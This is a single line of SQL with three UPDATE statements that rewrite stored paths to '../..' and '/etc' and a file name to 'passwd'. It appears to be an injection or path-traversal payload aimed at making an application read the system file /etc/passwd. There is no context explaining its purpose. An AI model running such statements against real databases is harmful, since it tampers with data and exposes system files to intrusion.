UPDATE root SET path = '../..'; UPDATE folder SET path = '/etc'; UPDATE file SET name = 'passwd' WHERE id = 1;
